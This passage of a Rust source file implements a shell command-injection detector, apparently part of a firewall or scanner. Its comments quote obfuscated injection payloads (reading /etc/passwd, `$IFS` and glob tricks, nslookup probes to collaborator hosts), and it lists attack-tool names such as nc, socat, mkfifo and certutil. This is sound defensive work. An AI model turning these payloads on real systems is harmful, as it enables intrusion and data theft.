//! Command injection by shape: read the value the way a POSIX shell (or
//! cmd.exe) would once it has been pasted into a command line, and look for
//! what injection needs — a command separator (`;`, `|`, `||`, `&`, `&&`,
//! a line break, `$(`, a backtick, a brace group) followed by a *command
//! word* in command position. Words are assembled as the shell assembles
//! them: quotes splice (`w'h'o"am"i`), backslashes escape (`c\at`), unset
//! variables vanish (`c$u''at`, `ca${x}t`), `$IFS` / `${IFS}` / `$IFS$9`
//! separate, `^` vanishes between letters (cmd.exe), a glob in a path
//! (`/???/c?t`) names the commands it matches. Arithmetic expansion used
//! as a probe (`$((7*7))`, commix's `echo TOKEN$((64+52))`) is injection
//! on its own.
//!
//! Prose shares the separators (`Tom & Jerry`, `Home | Men`, `a; b`) and
//! some command words are English (`cat`, `sleep`, `find`, `sort`): such a
//! word counts only with an argument of shell shape (an option, a path, a
//! redirection, an expansion, a number for `sleep`/`ping`) or alone at the
//! end of the value. One pass over every word (an injection after pages of
//! text is read as one at the start: no word count cuts the reading), a
//! word keeps at most `MAX_WORD` bytes in one reused buffer. Variables the
//! value assigns (`x=id`, at most `MAX_VARS`) are expanded where it uses
//! them (`$x`, `${x}`, `%x%`), so a command stored then run is read.

use super::Triggers;
use crate::transform::Transform;
use crate::word_index::WordIndex;
use std::ops::Range;

const MAX_WORD: usize = 48;

/// Whether `v` reads as command injection (fuzzing / tooling entry point).
pub fn is_shell_injection(v: &[u8]) -> bool {
    detect(v).is_some()
}

pub(crate) fn detect(v: &[u8]) -> Option<Range<usize>> {
    // Nothing to separate commands with: nothing to inject.
    if !v.iter().any(|&b| SEPARATOR[usize::from(b)]) {
        return None;
    }
    // A long value without a single space, or with punctuation in more
    // than a quarter of its bytes, is encoded data (bot-sensor payloads,
    // tokens): there a command word alone proves nothing, only one with
    // an argument does.
    let blob = v.len() > 200 && {
        let (mut spaces, mut punct) = (0usize, 0usize);
        for &c in v {
            spaces += usize::from(c == b' ' || c == b'\t');
            punct += usize::from(c.is_ascii_punctuation());
        }
        spaces == 0 || punct * 4 > v.len()
    };
    // Read bare, then as pasted inside a '…' and a "…" string: the
    // injection closes the quote first (`name";uname -a;"`).
    read_from(v, 0, blob).or_else(|| {
        [b'\'', b'"'].iter().find_map(|&q| {
            let at = v.iter().position(|&c| c == q)?;
            read_from(v, at + 1, blob)
        })
    })
}

/// Command injection written with C / JS escapes, for a layer that
/// decodes them before a shell sees the text (a JSON string built by
/// hand, `echo -e`, `printf`, a template): `\nid\n`, `x\u000auname -a`.
/// A value without a backslash is not decoded (nor read again). The span
/// runs from the first escape, in the value as received.
pub(crate) fn detect_escaped(v: &[u8]) -> Option<Range<usize>> {
    // `contains` on bytes is a memchr: most values have no backslash.
    if !v.contains(&b'\\') {
        return None;
    }
    let first = v.iter().position(|&b| b == b'\\')?;
    let decoded = Transform::JsDecode.apply(v)?;
    detect(&decoded)?;
    Some(first..v.len().min(first + 64))
}

/// Command injection using a cmd.exe variable whose name starts with two
/// hex digits (`|echo %cd%`, `&echo %date%`, `%CD:~0,1%`): percent-decoding
/// the value once more, as the shell rule's chain does for double-encoded
/// attacks, turns `%cd` into the byte 0xCD and the variable is lost. Here
/// the value is read as the application received it (decoded once), and
/// only a value holding such a variable is read.
pub(crate) fn detect_undecoded(v: &[u8]) -> Option<Range<usize>> {
    if !has_hex_named_percent_var(v) {
        return None;
    }
    detect(v)
}

/// `%` + two hex digits + name bytes (and a `:~n,m` substring) + `%`.
fn has_hex_named_percent_var(v: &[u8]) -> bool {
    let mut at = 0;
    while let Some(p) = v[at..].iter().position(|&c| c == b'%') {
        let r = &v[at + p + 1..];
        let hex = r.len() > 2 && r[0].is_ascii_hexdigit() && r[1].is_ascii_hexdigit();
        if hex {
            let name = r[2..]
                .iter()
                .take(32)
                .take_while(|c| {
                    c.is_ascii_alphanumeric() || matches!(c, b'_' | b':' | b'~' | b',' | b'-')
                })
                .count();
            if r.get(2 + name) == Some(&b'%') {
                return true;
            }
        }
        at += p + 1;
    }
    false
}

/// `detect_undecoded` reads only a value holding a `%`.
pub(crate) const UNDECODED_TRIGGERS: Triggers = Triggers::new(b"%");

/// Bytes that can start a command position (`;`, `|`, `&`, a line
/// break, a backtick, `$(`, `{`): `detect` reads nothing without one.
pub(crate) const TRIGGERS: Triggers = Triggers::new(b";|&\n`${");

/// `detect_escaped` decodes only a value holding a backslash.
pub(crate) const ESCAPED_TRIGGERS: Triggers = Triggers::new(b"\\");

/// A command line needs an option (`-m`, `--out`), a path or URL (`/`)
/// or an IPv4 address (`.`) after its program name.
pub(crate) const COMMAND_LINE_TRIGGERS: Triggers = Triggers::new(b"-./");

/// `TRIGGERS` as a table for the one-pass precheck.
static SEPARATOR: [bool; 256] = {
    let mut t = [false; 256];
    let list = TRIGGERS.bytes;
    let mut i = 0;
    while i < list.len() {
        t[list[i] as usize] = true;
        i += 1;
    }
    t
};

fn read_from(v: &[u8], from: usize, blob: bool) -> Option<Range<usize>> {
    let mut r = Reader::new(v);
    r.i = from;
    r.blob = blob;
    let mut after_sep: Option<(Sep, usize)> = None;
    while let Some(tok) = r.next() {
        match tok {
            Tok::Arith(span) => return Some(span),
            Tok::Sep(s, at) => after_sep = Some((s, at)),
            Tok::Word(w) => {
                // `x=id`, `export X=id`: remembered, so that `$x` run later
                // in command position names the command it holds.
                if r.assignment(&w) {
                    after_sep = None;
                } else if let Some((sep, at)) = after_sep.take() {
                    if let Some(end) = command_at(&mut r, &w, sep) {
                        return Some(at..end.max(at + 1).min(v.len()));
                    }
                    // `;eval id`, `;exec id`, `|sudo id`: a prefix runs
                    // the next word, which stays in command position.
                    if command_prefix(&w.text) {
                        after_sep = Some((sep, at));
                    }
                }
                // The word's buffer serves the next word.
                r.spare = w.text;
            }
            // `;! id`: a negation keeps the command position; `;(id)`, a
            // subshell, opens one as weak as a lone `|` (prose writes
            // `; (id est)`).
            Tok::Other if r.v.get(r.i.wrapping_sub(1)) == Some(&b'!') => {}
            Tok::Other if r.v.get(r.i.wrapping_sub(1)) == Some(&b'(') => {
                after_sep = after_sep.map(|(_, at)| (Sep::Weak, at));
            }
            Tok::Other => after_sep = None,
        }
    }
    None
}

/// Words that run the command named by the next word (`eval id`,
/// `exec id`, `command id`, `sudo id`, `nohup id`, `time id`).
fn command_prefix(w: &[u8]) -> bool {
    matches!(
        w,
        b"eval"
            | b"exec"
            | b"command"
            | b"builtin"
            | b"sudo"
            | b"doas"
            | b"nohup"
            | b"setsid"
            | b"time"
            | b"nice"
            | b"env"
            | b"xargs"
    )
}

/// What put the next word in command position.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sep {
    /// `;`, `&&`, `||`.
    Strong,
    /// A line break: also how text and GraphQL selections (`{\n  id\n}`)
    /// list words, so a command needs an argument or the value's end.
    Line,
    /// A single `|` or `&`: also a separator in prose and data.
    Weak,
    /// `$(` or a backtick: command substitution.
    Subst,
    /// `{` opening a brace expansion or group.
    Brace,
}

#[derive(Debug)]
enum Tok {
    Sep(Sep, usize),
    Word(Word),
    /// `$((…))` of digits and operators: an arithmetic probe.
    Arith(Range<usize>),
    /// Anything else that ends command position (`=`, `(`, text).
    Other,
}

#[derive(Debug, Default)]
struct Word {
    text: Vec<u8>,
    end: usize,
    /// Only an expansion (`$HOME`): not a command word.
    only_var: bool,
    /// An unquoted expansion whose value holds a blank (`x='cat /etc/passwd'`
    /// then `$x`) is split by the shell: the word is its first field, and
    /// this is the first byte of the rest (the command's first argument).
    split_arg: Option<u8>,
}

/// At most this many assignments are remembered per reading, the most
/// recent (a value assigns one or two variables before running them; data
/// of `k=v;` pairs before them is forgotten first), each holding at most
/// `MAX_WORD` bytes: expanding one costs a bounded look-up.
const MAX_VARS: usize = 32;

struct Reader<'v> {
    v: &'v [u8],
    i: usize,
    /// The value is encoded data (see `detect`).
    blob: bool,
    /// Variables the value assigned (`x=id`, `set x=id` for cmd.exe),
    /// name and value; expanded where the value uses them (`$x`, `${x}`,
    /// `%x%`). Unassigned variables still vanish (`c$u''at`).
    vars: Vec<(Vec<u8>, Vec<u8>)>,
    /// A word buffer handed back once its word is judged: a long text is
    /// read with one allocation, not one per word.
    spare: Vec<u8>,
}

impl<'v> Reader<'v> {
    fn new(v: &'v [u8]) -> Self {
        Reader {
            v,
            i: 0,
            blob: false,
            vars: Vec::new(),
            spare: Vec::new(),
        }
    }

    /// If `w` (just read) is the name of an assignment (`x=`, no blank
    /// before the `=`), reads the assigned word and remembers it; true if
    /// so. The cursor is then past the value.
    fn assignment(&mut self, w: &Word) -> bool {
        let name_ok = w
            .text
            .first()
            .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
            && w.text
                .iter()
                .all(|c| c.is_ascii_alphanumeric() || *c == b'_');
        if !name_ok || w.end != self.i || self.peek(0) != Some(b'=') {
            return false;
        }
        self.i += 1;
        let value = self.word();
        let text = match value.split_arg {
            // `x=$y` where `$y` held a blank: assignments do not split.
            Some(_) => return true,
            None => value.text,
        };
        // The most recent are kept, a reassigned name counting as recent:
        // ordinary `k=v;` data before `x=id;$x` must not push it out.
        if let Some(at) = self.vars.iter().position(|(n, _)| *n == w.text) {
            self.vars.remove(at);
        } else if self.vars.len() == MAX_VARS {
            self.vars.remove(0);
        }
        self.vars.push((w.text.clone(), text));
        true
    }

    /// The name a variable reference at the cursor reads (`$x`, `${x}`,
    /// `${x:-d}` → `x`), given its length from `var_len`.
    fn var_name(&self, len: usize) -> &'v [u8] {
        let r = &self.v[self.i..self.i + len];
        let name = match r.get(1) {
            Some(b'{') => &r[2..len - 1],
            _ => &r[1..],
        };
        let end = name
            .iter()
            .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_'))
            .unwrap_or(name.len());
        &name[..end]
    }

    /// Expands the variable reference at the cursor into `w` when the
    /// value assigned it (`$x` after `x=id`) or it carries a default
    /// (`${x:-id}`, `${x-id}`), and moves past it; false (cursor unmoved)
    /// for any other reference, which the caller skips as empty. `quoted`:
    /// inside "…", where the shell does not split the value.
    fn expand_var(&mut self, w: &mut Word, quoted: bool) -> bool {
        let Some(len) = self.var_len() else {
            return false;
        };
        let name = self.var_name(len);
        let (v, at) = (self.v, self.i);
        // Borrowed, not copied: the table's value or the reference's own
        // default (`name` and the default borrow the input, not `self`).
        let value = match self.vars.iter().find(|(n, _)| n == name) {
            Some((_, value)) => value.as_slice(),
            None => match default_word(&v[at..at + len]) {
                Some(d) => d,
                None => return false,
            },
        };
        self.i += len;
        push_expansion(w, value, quoted);
        true
    }

    /// cmd.exe's `%x%` after `set x=…`: expanded as `$x` is.
    fn expand_percent_var(&mut self, w: &mut Word) -> bool {
        if self.vars.is_empty() {
            return false;
        }
        let r = &self.v[self.i..];
        let Some(close) = r.iter().skip(1).take(MAX_WORD).position(|&c| c == b'%') else {
            return false;
        };
        let name = &r[1..close + 1];
        let Some((_, value)) = self.vars.iter().find(|(n, _)| n == name) else {
            return false;
        };
        self.i += close + 2;
        push_expansion(w, value, false);
        true
    }

    fn peek(&self, k: usize) -> Option<u8> {
        self.v.get(self.i + k).copied()
    }

    /// Skips blanks and `$IFS`-style separators; true if any was skipped.
    fn skip_blanks(&mut self) -> bool {
        let start = self.i;
        loop {
            match self.peek(0) {
                Some(b' ' | b'\t' | b'\r' | 0x0b | 0x0c) => self.i += 1,
                Some(b'$') => match ifs_len(&self.v[self.i..]) {
                    Some(n) => self.i += n,
                    None => break,
                },
                // `<` / `>` redirections separate words too.
                Some(b'\\') if self.peek(1) == Some(b'\n') => self.i += 2,
                _ => break,
            }
        }
        self.i > start
    }

    fn next(&mut self) -> Option<Tok> {
        self.skip_blanks();
        let at = self.i;
        let b = self.peek(0)?;
        let two = |c: u8| self.peek(1) == Some(c);
        let tok = match b {
            b';' => {
                self.i += 1;
                Tok::Sep(Sep::Strong, at)
            }
            b'\n' => {
                self.i += 1;
                Tok::Sep(Sep::Line, at)
            }
            b'&' | b'|' if two(b) => {
                self.i += 2;
                Tok::Sep(Sep::Strong, at)
            }
            b'&' | b'|' => {
                self.i += 1;
                Tok::Sep(Sep::Weak, at)
            }
            b'`' => {
                self.i += 1;
                Tok::Sep(Sep::Subst, at)
            }
            b'$' if two(b'(') => {
                if self.peek(2) == Some(b'(') {
                    if let Some(end) = arith_probe(&self.v[self.i..]) {
                        self.i += end;
                        return Some(Tok::Arith(at..self.i));
                    }
                }
                self.i += 2;
                Tok::Sep(Sep::Subst, at)
            }
            b'{' => {
                self.i += 1;
                Tok::Sep(Sep::Brace, at)
            }
            _ if starts_word(b) || b == b'$' || b == b'\\' => {
                let w = self.word();
                if w.text.is_empty() && !w.only_var {
                    // `$` before something that is not a word.
                    self.i = self.i.max(at + 1);
                    Tok::Other
                } else {
                    Tok::Word(w)
                }
            }
            _ => {
                self.i += 1;
                Tok::Other
            }
        };
        Some(tok)
    }

    /// One shell word, with quotes, escapes and expansions applied.
    fn word(&mut self) -> Word {
        let mut text = std::mem::take(&mut self.spare);
        text.clear();
        let mut w = Word {
            text,
            ..Word::default()
        };
        let mut vars = 0usize;
        let push = |w: &mut Word, b: u8| {
            if w.text.len() < MAX_WORD {
                w.text.push(b);
            }
        };
        while let Some(b) = self.peek(0) {
            match b {
                b'\'' => {
                    self.i += 1;
                    while let Some(c) = self.peek(0) {
                        self.i += 1;
                        if c == b'\'' {
                            break;
                        }
                        push(&mut w, c);
                    }
                }
                b'"' => {
                    self.i += 1;
                    while let Some(c) = self.peek(0) {
                        if c == b'"' {
                            self.i += 1;
                            break;
                        }
                        if c == b'$' && self.var_len().is_some() {
                            if !self.expand_var(&mut w, true) {
                                self.skip_var();
                            }
                            vars += 1;
                            continue;
                        }
                        if c == b'\\' && self.peek(1).is_some() {
                            self.i += 1;
                        }
                        self.i += 1;
                        let c = self.v[self.i - 1];
                        push(&mut w, c);
                    }
                }
                b'\\' => match self.peek(1) {
                    Some(b'\n') => self.i += 2,
                    Some(c) => {
                        self.i += 2;
                        push(&mut w, c);
                    }
                    None => self.i += 1,
                },
                // Bash's ANSI-C quoting `$'\x63at'`, `$'uname\x20-a'`: a
                // quoted part whose escapes the shell decodes.
                b'$' if self.peek(1) == Some(b'\'') => {
                    self.i += 2;
                    while let Some(c) = self.peek(0) {
                        self.i += 1;
                        match c {
                            b'\'' => break,
                            b'\\' => {
                                let (byte, used) = ansi_c_escape(&self.v[self.i..]);
                                self.i += used;
                                push(&mut w, byte);
                            }
                            _ => push(&mut w, c),
                        }
                    }
                }
                // `l$()s`: an empty substitution splices the word.
                b'$' if self.peek(1) == Some(b'(') && self.peek(2) == Some(b')') => {
                    self.i += 3;
                    vars += 1;
                }
                b'$' => {
                    if ifs_len(&self.v[self.i..]).is_some() || self.peek(1) == Some(b'(') {
                        break;
                    }
                    if self.var_len().is_none() {
                        break;
                    }
                    if !self.expand_var(&mut w, false) {
                        self.skip_var();
                    }
                    vars += 1;
                    if w.split_arg.is_some() {
                        break;
                    }
                }
                b'%' if self.expand_percent_var(&mut w) => {
                    if w.split_arg.is_some() {
                        break;
                    }
                }
                // cmd.exe's escape character, between word characters.
                b'^' if !w.text.is_empty() && self.peek(1).is_some_and(starts_word) => {
                    self.i += 1;
                }
                _ if starts_word(b) => {
                    self.i += 1;
                    push(&mut w, b);
                }
                _ => break,
            }
        }
        w.end = self.i;
        w.only_var = w.text.is_empty() && vars > 0;
        w
    }

    /// The length of a variable reference at the cursor (`$x`, `${x}`,
    /// `$9`, `$@`, `$*`), or `None` when `$` starts none.
    fn var_len(&self) -> Option<usize> {
        let r = &self.v[self.i..];
        match r.get(1)? {
            b'{' => {
                let close = r.iter().take(40).position(|&c| c == b'}')?;
                Some(close + 1)
            }
            b'@' | b'*' | b'#' | b'?' | b'!' | b'-' | b'0'..=b'9' => Some(2),
            c if c.is_ascii_alphabetic() || *c == b'_' => Some(
                1 + r[1..]
                    .iter()
                    .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                    .count(),
            ),
            _ => None,
        }
    }

    fn skip_var(&mut self) {
        self.i += self.var_len().unwrap_or(1);
    }
}

/// The byte an escape of bash's `$'…'` stands for, read from `r` (what
/// follows the backslash), and how many bytes of `r` it used: `\xHH`,
/// octal `\NNN`, the C letters; a code point beyond ASCII as `?` (no
/// command word holds one); any other byte as itself.
fn ansi_c_escape(r: &[u8]) -> (u8, usize) {
    let Some(&c) = r.first() else {
        return (b'\\', 0);
    };
    let digits = |radix: u32, max: usize, from: usize| {
        let n = r[from..]
            .iter()
            .take(max)
            .take_while(|d| char::from(**d).is_digit(radix))
            .count();
        let value = r[from..from + n].iter().fold(0u32, |a, d| {
            a * radix + char::from(*d).to_digit(radix).unwrap_or(0)
        });
        (value, n)
    };
    let byte = |v: u32| u8::try_from(v).ok().filter(u8::is_ascii).unwrap_or(b'?');
    match c {
        b'x' => match digits(16, 2, 1) {
            (_, 0) => (b'x', 1),
            (v, n) => (byte(v), 1 + n),
        },
        b'u' | b'U' => match digits(16, if c == b'u' { 4 } else { 8 }, 1) {
            (_, 0) => (c, 1),
            (v, n) => (byte(v), 1 + n),
        },
        b'0'..=b'7' => {
            let (v, n) = digits(8, 3, 0);
            (byte(v), n)
        }
        b'n' => (b'\n', 1),
        b't' => (b'\t', 1),
        b'r' => (b'\r', 1),
        b'a' => (7, 1),
        b'b' => (8, 1),
        b'e' | b'E' => (27, 1),
        b'f' => (12, 1),
        b'v' => (11, 1),
        _ => (c, 1),
    }
}

/// Appends a variable's value to the word being read. Unquoted, the shell
/// splits it at blanks: a word that gets its first field from it ends
/// there, the rest being arguments (`split_arg`).
fn push_expansion(w: &mut Word, value: &[u8], quoted: bool) {
    let field = if quoted {
        value
    } else {
        value.trim_ascii_start()
    };
    let (head, rest) = match field.iter().position(|c| matches!(c, b' ' | b'\t')) {
        Some(p) if !quoted => (&field[..p], field[p..].trim_ascii_start()),
        _ => (field, &b""[..]),
    };
    for &b in head {
        if w.text.len() < MAX_WORD {
            w.text.push(b);
        }
    }
    if let Some(&c) = rest.first() {
        w.split_arg = Some(c);
    }
}

/// The default word of `${x:-word}`, `${x-word}`, `${x:=word}`, `${x=word}`
/// (what the shell expands when `x` is unset).
fn default_word(r: &[u8]) -> Option<&[u8]> {
    let inner = r.strip_prefix(b"${")?.strip_suffix(b"}")?;
    let name = inner
        .iter()
        .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_'))?;
    let rest = &inner[name..];
    let rest = rest.strip_prefix(b":").unwrap_or(rest);
    let word = rest
        .strip_prefix(b"-")
        .or_else(|| rest.strip_prefix(b"="))?;
    (!word.is_empty()).then_some(word)
}

/// Bytes a word is made of, besides quotes, escapes and expansions.
fn starts_word(b: u8) -> bool {
    b.is_ascii_alphanumeric()
        || matches!(
            b,
            b'/' | b'.'
                | b'_'
                | b'-'
                | b'~'
                | b'?'
                | b'*'
                | b'['
                | b']'
                | b'+'
                | b':'
                | b'\''
                | b'"'
                | b'%'
                | b'@'
        )
        || b >= 0x80
}

/// `$IFS`, `${IFS}`, `$IFS$9`, `${IFS%??}` at the start of `r`: its length.
fn ifs_len(r: &[u8]) -> Option<usize> {
    let n = if r.starts_with(b"${IFS") {
        r.iter().take(16).position(|&c| c == b'}')? + 1
    } else if r.starts_with(b"$IFS") {
        4
    } else {
        return None;
    };
    // `$IFS$9`: an empty positional parameter ends the name.
    let rest = &r[n..];
    Some(match rest {
        [b'$', d, ..] if d.is_ascii_digit() => n + 2,
        _ => n,
    })
}

/// `$((7*7))`, `$((64+52))`: arithmetic of numbers only — what a probe
/// computes to see its result echoed. The length through `))`.
fn arith_probe(r: &[u8]) -> Option<usize> {
    let body = r.get(3..)?;
    let close = body.iter().take(64).position(|&c| c == b')')?;
    let inner = &body[..close];
    let digits = inner.iter().filter(|c| c.is_ascii_digit()).count();
    let ok = digits >= 2
        && inner
            .iter()
            .all(|c| c.is_ascii_digit() || matches!(c, b'+' | b'-' | b'*' | b'/' | b'%' | b' '))
        && inner
            .iter()
            .any(|c| matches!(c, b'+' | b'-' | b'*' | b'/' | b'%'))
        && body.get(close + 1) == Some(&b')');
    ok.then_some(3 + close + 2)
}

/// If `w`, in command position after `sep`, is a command as used in an
/// injection, the end of the evidence.
fn command_at(r: &mut Reader<'_>, w: &Word, sep: Sep) -> Option<usize> {
    if w.only_var || w.text.is_empty() {
        return None;
    }
    let (strength, name) = command_word(&w.text)?;
    // What follows the word decides: an assignment or a call is not a
    // command line (`;id=3`, `&cat=5`, `|sort(`).
    let next = r.peek(0);
    if w.split_arg.is_none() && matches!(next, Some(b'=' | b'(')) {
        return None;
    }
    // A variable holding the command and its arguments (`x='cat /etc/passwd'`
    // then `$x`): the argument is inside the expansion.
    let (spaced, after) = match w.split_arg {
        Some(c) => (true, Some(c)),
        None => (r.skip_blanks(), r.peek(0)),
    };
    let ends = !r.blob
        && matches!(
            after,
            None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'}')
        );
    let arg_shaped = after.is_some_and(|a| {
        matches!(
            a,
            b'-' | b'/' | b'.' | b'~' | b'$' | b'\'' | b'"' | b'<' | b'>' | b'%' | b'\\'
        ) || (a.is_ascii_digit() && numeric_arg(name))
    }) || host_arg(r, name, spaced, strength, sep);
    // A brace expansion needs its comma: `{cat,/etc/passwd}`.
    let brace_arg = sep == Sep::Brace && !spaced && after == Some(b',');
    let hit = match strength {
        // After a lone `|` or `&` (a separator in prose and data too:
        // `name | id | email`), still an argument or the end.
        Strength::Strong if sep == Sep::Line => {
            r.v[r.i..].iter().all(u8::is_ascii_whitespace) || arg_shaped && spaced
        }
        // `|nc|`, `|rm|` are values of pipe-separated lists; `|id` at the
        // end, `|id;`, `&id&&` are commands.
        Strength::Strong if sep == Sep::Weak => {
            ends && !spaced && !matches!(after, Some(b'|' | b'}')) || arg_shaped && spaced
        }
        Strength::Strong => ends || spaced || arg_shaped || brace_arg,
        // An English word: an argument of shell shape, or alone inside a
        // substitution (`$(cat)`, `` `date` ``).
        Strength::Weak => {
            (spaced || matches!(after, Some(b'<' | b'>'))) && arg_shaped
                || brace_arg
                || (ends && sep == Sep::Subst)
        }
    };
    if sep == Sep::Brace && !brace_arg {
        return None;
    }
    hit.then_some(r.i.max(w.end))
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Strength {
    /// A word prose does not use: the word after a separator suffices.
    Strong,
    /// An English word too: it needs an argument of shell shape.
    Weak,
}

/// Commands no sentence uses as a word after a separator.
const STRONG: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "wget",
    "curl",
    "nslookup",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "powershell",
    "pwsh",
    "systeminfo",
    "netstat",
    "hostname",
    "chmod",
    "chown",
    "base64",
    "xxd",
    "busybox",
    "nohup",
    "crontab",
    "useradd",
    "usermod",
    "passwd",
    "id",
    "ls",
    "ps",
    "pwd",
    "rm",
    "sudo",
    "nmap",
    "tftp",
    "socat",
    "mkfifo",
    "mknod",
    "netsh",
    "wmic",
    "certutil",
    "bitsadmin",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "tasklist",
    "taskkill",
    "schtasks",
    "getent",
    "egrep",
    "fgrep",
    "grep",
    "hexdump",
    "printenv",
    "uptime",
    "icacls",
    "killall",
    "pkill",
    "lsof",
    "iptables",
    "setsid",
    "sh",
    "bash",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "tcsh",
    "cmd",
    "awk",
    "gawk",
    "traceroute",
    "tracert",
    "xterm",
    "scp",
    "ssh",
];

/// Commands that are also English words or names of languages people
/// write about (`cats & dogs; sleep tips`, `php & mysql hosting`).
const WEAK: &[&str] = &[
    "cat", "find", "sort", "head", "tail", "more", "less", "time", "type", "set", "who", "last",
    "kill", "wait", "read", "file", "date", "touch", "which", "uniq", "tr", "diff", "tar", "zip",
    "unzip", "dd", "top", "free", "df", "du", "sed", "tee", "nice", "export", "source", "exec",
    "eval", "start", "call", "mkdir", "rmdir", "mv", "cp", "ln", "chgrp", "finger", "mail",
    "history", "alias", "whois", "route", "arp", "locate", "stat", "sleep", "ping", "echo",
    "printf", "timeout", "host", "net", "reg", "dir", "del", "copy", "ver", "vol", "sc", "su",
    "cut", "strings", "mount", "umount", "shutdown", "reboot", "dig", "nl", "od", "tac", "env",
    "python", "python2", "python3", "perl", "ruby", "php", "lua", "node", "ftp", "xcopy", "attrib",
];

/// The index covers names shorter than this: the longest of `STRONG` and
/// `WEAK` (`powershell`) has 10 bytes (checked when the index is built).
const NAME_MAX: usize = 11;

/// `STRONG` and `WEAK` by name length and first letter (`command_word`).
static NAMES: (WordIndex<NAME_MAX, 2>, WordIndex<NAME_MAX, 2>) =
    (WordIndex::of_words(STRONG), WordIndex::of_words(WEAK));

/// Commands cmd.exe runs in any case (`WHOAMI`, `Dir`); Unix shells do not
/// run `Cat`, so other words count only in lower case.
const ANY_CASE: &[&str] = &[
    "whoami",
    "ipconfig",
    "systeminfo",
    "netstat",
    "hostname",
    "tasklist",
    "taskkill",
    "powershell",
    "cmd",
    "certutil",
    "bitsadmin",
    "wmic",
    "netsh",
    "schtasks",
    "icacls",
    "ping",
    "nslookup",
    "type",
    "dir",
    "net",
    "ver",
    "echo",
    "copy",
    "del",
    "xcopy",
    "attrib",
    "tracert",
];

/// Of the strong commands, those a prose sentence does start a clause
/// with once the separator is a lone `|` or `&`; they need shell shape
/// there like weak ones (`Tom & Jerry | echo of the past`).
fn numeric_arg(name: &str) -> bool {
    matches!(
        name,
        "sleep" | "ping" | "timeout" | "kill" | "wait" | "head" | "tail"
    )
}

/// Tools that resolve or reach a host named by their first argument:
/// out-of-band probes (`& nslookup x.collaborator.example &`) need no
/// option or path, the host name is their shell-shaped argument.
fn network_tool(name: &str) -> bool {
    matches!(
        name,
        "nslookup"
            | "dig"
            | "host"
            | "ping"
            | "curl"
            | "wget"
            | "nc"
            | "ncat"
            | "netcat"
            | "telnet"
            | "traceroute"
            | "tracert"
            | "whois"
            | "ssh"
            | "ftp"
            | "tftp"
    )
}

/// A host name as the argument of a network tool: for a command no
/// sentence uses (`& nslookup x.oast.example &`) or after a separator prose
/// does not write (`;host evil.example`); not an English word after a lone
/// `&` / `|` (`web & host example.com`). An out-of-band probe ends at the
/// host: unless the tool is one no sentence uses and the separator is not
/// a line break, the host must end the value or its command (`;`, `|`,
/// `&`, a backtick, a line break, `)` or a quote follow). Support text goes
/// on after it: `site down; ping example.com fails`, `\nssh build.example.org
/// then deploy`.
fn host_arg(r: &Reader<'_>, name: &str, spaced: bool, strength: Strength, sep: Sep) -> bool {
    if !spaced || !(strength == Strength::Strong || sep != Sep::Weak) || !network_tool(name) {
        return false;
    }
    let rest = &r.v[r.i..];
    let Some(end) = host_name_at(rest) else {
        return false;
    };
    let after = rest[end..]
        .iter()
        .find(|&&c| !matches!(c, b' ' | b'\t' | b'\r'));
    (strength == Strength::Strong && sep != Sep::Line)
        || after
            .is_none_or(|c| matches!(c, b';' | b'|' | b'&' | b'`' | b'\n' | b')' | b'\'' | b'"'))
}

/// If `r` starts with a host name or IPv4 address as one shell word
/// (`evil.example`, `a.b.oastify.com`, `10.0.0.1`), where it ends:
/// dot-separated labels of letters, digits and `-`, the last one letters
/// (a top-level domain), or an IPv4 address. Prose words after these
/// commands (`host parties`) have no dot.
fn host_name_at(r: &[u8]) -> Option<usize> {
    let end = r
        .iter()
        .take(254)
        .position(|&c| !(c.is_ascii_alphanumeric() || c == b'-' || c == b'.'))
        .unwrap_or(r.len().min(254));
    if r.get(end).is_some_and(|c| {
        !matches!(
            c,
            b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b')' | b'\'' | b'"'
        )
    }) {
        return None;
    }
    let word = r[..end].strip_suffix(b".").unwrap_or(&r[..end]);
    let labels = word.split(|&c| c == b'.');
    let (mut n, mut last_alpha) = (0usize, false);
    for l in labels {
        if l.is_empty() || l.len() > 63 {
            return None;
        }
        n += 1;
        last_alpha = l.len() >= 2 && l.iter().all(u8::is_ascii_alphabetic);
    }
    (n >= 2 && last_alpha || is_ipv4(word)).then_some(end)
}

/// A word read as a command: its last path component (without `.exe`), whether
/// that is a glob or all lower case, and whether the word is an absolute path.
struct CommandWord<'a> {
    base: &'a [u8],
    glob: bool,
    lower: bool,
    rooted_path: bool,
}

impl<'a> CommandWord<'a> {
    fn of(w: &'a [u8]) -> Option<Self> {
        // The last path component names the command.
        let base = match w.iter().rposition(|&c| c == b'/' || c == b'\\') {
            Some(p) => &w[p + 1..],
            None => w,
        };
        let base = strip_exe(base);
        if base.is_empty() || base.len() > 24 {
            return None;
        }
        let glob = base.iter().any(|c| matches!(c, b'?' | b'*' | b'['));
        // A glob must still fix some letters (`c?t`, `wh?ami`; not `???`, `*h`).
        if glob && base.iter().filter(|c| c.is_ascii_alphabetic()).count() < 2 {
            return None;
        }
        Some(CommandWord {
            base,
            glob,
            lower: !base.iter().any(u8::is_ascii_uppercase),
            rooted_path: base.len() < w.len() && w.first() == Some(&b'/'),
        })
    }

    /// The name and strength, `find` answering which name of a list (and
    /// its index: 0 for `STRONG`, 1 for `WEAK`) the word is.
    fn named(
        &self,
        find: impl Fn(&'static [&'static str], usize) -> Option<&'static str>,
    ) -> Option<(Strength, &'static str)> {
        if let Some(c) = find(STRONG, 0) {
            return Some((Strength::Strong, c));
        }
        // A weak word behind a path (`/bin/cat`) is as strong as any.
        find(WEAK, 1).map(|c| {
            if self.rooted_path {
                (Strength::Strong, c)
            } else {
                (Strength::Weak, c)
            }
        })
    }
}

/// The command a word names: `cat`, `/bin/cat`, `/???/c?t`, `C:\…\cmd.exe`.
fn command_word(w: &[u8]) -> Option<(Strength, &'static str)> {
    let word = CommandWord::of(w)?;
    // A name without a glob is looked up by its length and first letter
